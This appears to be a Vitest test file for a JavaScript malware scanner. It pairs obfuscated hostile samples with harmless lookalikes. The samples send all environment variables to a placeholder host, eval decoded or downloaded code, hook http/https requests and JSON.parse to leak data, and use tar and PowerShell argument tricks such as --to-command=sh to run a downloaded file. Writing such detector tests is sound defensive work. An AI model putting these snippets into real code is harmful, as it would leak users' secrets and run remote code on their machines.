import { expect, it } from 'vitest';
import { rulesIn } from '../../support/rules-in.js';

const SENT = 'code/environment-sent';
const download =
  "const fs = require('fs'); const { spawnSync } = require('child_process'); const at = '/tmp/x';";
const written = (run: string): string =>
  `fetch('https://c.example.invalid').then((r) => r.text()).then((text) => { fs.writeFileSync(at, text); ${run}; });`;
const send = "fetch('https://c.example.invalid', { method: 'POST', body });";

it.each<[what: string, code: string, rule: string]>([
  [
    'destructuring and a helper',
    `const { env } = process; const pack = (x) => JSON.stringify({ x }); const body = pack(env); ${send}`,
    SENT,
  ],
  [
    'a loop over its names',
    `const body = {}; for (const k in process.env) body[k] = process.env[k]; ${send}`,
    SENT,
  ],
  ['all but one variable', `const { PATH, ...body } = process.env; ${send}`, SENT],
  [
    'names that a function picks',
    `const body = Object.keys(process.env).reduce((o, k) => { o[k] = process.env[k]; return o; }, {}); ${send}`,
    SENT,
  ],
  [
    'a class that keeps it',
    `class Q { constructor() { this.q = []; } add(x) { this.q.push(x); } send() { const body = JSON.stringify(this.q); ${send} } } const q = new Q(); q.add(process.env); q.send();`,
    SENT,
  ],
  [
    'text whose characters are turned',
    "const f = (t) => t.split('').reverse().join(''); globalThis[f('lave')](atob('MQ=='));",
    'code/runs-decoded',
  ],
  [
    'another name of Function',
    "const make = (() => 0).constructor; make(Buffer.from('31', 'hex').toString())();",
    'code/runs-decoded',
  ],
  [
    'a module under a name in pieces',
    "const https = require(['ht', 'tps'].join('')); https.get('https://c.example.invalid', (r) => r.on('data', (c) => eval(c + '')));",
    'code/runs-response',
  ],
  [
    'a function of the runtime by the global object and another name',
    "const Socket = globalThis.WebSocket; const s = new Socket('wss://c.example.invalid'); s.onopen = () => s.send(JSON.stringify(process.env));",
    SENT,
  ],
  [
    'a generator that iterating a class calls',
    `class Ring { constructor(n) { this.list = new Array(n); this.n = 0; } add(x) { this.list[this.n++ % this.list.length] = x; } *[Symbol.iterator]() { for (const each of this.list) yield each; } } const ring = new Ring(3); ring.add(process.env); const body = JSON.stringify([...ring]); ${send}`,
    SENT,
  ],
  [
    'functions inside functions that code outside gets',
    `exports.middleware = () => (next) => async (given) => { const body = JSON.stringify(process.env); ${send} return next(given); };`,
    SENT,
  ],
  [
    'values that the reader of JSON gives a function, by call',
    "const native = JSON.parse; const kept = []; JSON.parse = (text) => native.call(JSON, text, (key, value) => { kept.push(value); return value; }); setInterval(() => fetch('https://c.example.invalid', { method: 'POST', body: kept.join() }), 9);",
    'code/request-hook',
  ],
  [
    'a setter of all objects under a name that code computes',
    "const traps = (names) => names.forEach((name) => Object.defineProperty(Object.prototype, name, { set() { fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(this) }); } })); traps(['a' + 'b']);",
    'code/request-hook',
  ],
  [
    'a function that wraps those of two modules, and sends to a third machine',
    "const http = require('http'); const https = require('https'); const wrap = (before) => (options, done) => { fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(options.headers) }); return before(options, done); }; http.request = wrap(http.request); https.request = wrap(https.request);",
    'code/request-hook',
  ],
  ...[
    "spawnSync('tar', ['-xf', at, '--to-command=sh'])",
    "spawnSync('tar', ['-I', at, '-xf', 'a.tar'])",
    "spawnSync('tar', ['-xf', at, '--to-comm=sh'])",
    "spawnSync('tar', ['-xf', at, '--use=' + at])",
    "spawnSync('tar', ['-xIf', at, 'a.tar'])",
    "spawnSync('tar', ['xIf', at, 'a.tar'])",
    "spawnSync('tar', ['-xMF', at, '-f', 'a.tar'])",
    "spawnSync('tar -xMF ' + at + ' -f a.tar', { shell: true })",
    "spawnSync('tar', options)",
    "spawnSync('powershell.exe', [at, '-Command', 'Expand-Archive a.zip; & x'])",
    "spawnSync('pwsh', [at, '-Command', 'Expand-Archive (iex x)'])",
  ].map((run): [string, string, string] => [
    `a program that unpacks and runs another: ${run}`,
    `${download} const options = ['-cf', 'x', '--checkpoint-action=exec=sh ' + at, at]; ${written(run)}`,
    'code/runs-written',
  ]),
])('finds %s', async (_, code, rule) => {
  expect(await rulesIn({ 'index.js': code })).toContain(rule);
});

it.each<[what: string, code: string]>([
  ['single variables', "const body = { a: process.env.APP_NAME, b: process.env['REGION'] }; " + send],
  ['a variable whose name is given', `exports.send = (name) => { const body = process.env[name]; ${send} };`],
  ['names of variables', `const body = Object.keys(process.env).join(); ${send}`],
  [
    'a copy of which one variable is sent',
    `const all = { ...process.env }; const body = all.APP_NAME; ${send}`,
  ],
  [
    'a digest',
    `const body = require('crypto').createHash('sha256').update(JSON.stringify(process.env)).digest('hex'); ${send}`,
  ],
  [
    'what a hook gives a server that a setting names',
    "const https = require('https'); const before = https.request; https.request = (options) => { fetch(process.env.COLLECTOR, { method: 'POST', body: JSON.stringify(options.headers) }); return before(options); };",
  ],
  [
    'what a hook gives this machine',
    "const https = require('https'); const before = https.request; https.request = (options) => { fetch('http://127.0.0.1:4318', { method: 'POST', body: JSON.stringify(options.headers) }); return before(options); };",
  ],
  [
    'the given functions of two modules, called with what they would get',
    "const http = require('http'); const https = require('https'); const wrap = (before, agent) => (options, done) => before({ ...options, agent }, done); http.request = wrap(http.request, 1); https.request = wrap(https.request, 1); https.request('https://a.example.invalid');",
  ],
  ...[
    "spawnSync('tar', ['-xf', at])",
    "spawnSync('tar', ['--utc', '--numeric-owner', '-xzf', at, '-C', 'Images'])",
    "spawnSync('grep', ['-F', 'Index', at])",
    "spawnSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -LiteralPath '${at}' -DestinationPath /tmp`])",
  ].map((run): [string, string] => [`a program that only unpacks: ${run}`, download + written(run)]),
  ...[
    'some((each) => each.family === 4)',
    'every((each) => each)',
    'findIndex((each) => each.x)',
    'includes(1)',
  ].map((asked): [string, string] => [
    `an answer about a list: ${asked}`,
    `const is = Object.values(require('os').networkInterfaces()).flat().${asked}; require('dns').lookup(is, () => {});`,
  ]),
  [
    'what is encoded again, in the comment of compiled code',
    "exports.run = (code) => { const map = btoa(code.replace(/%(..)/g, (_, hex) => String.fromCharCode('0x' + hex))); require('vm').runInThisContext(code + '//' + map); };",
  ],
])('takes %s for harmless', async (_, code) => {
  expect(await rulesIn({ 'index.js': code })).toEqual([]);
});
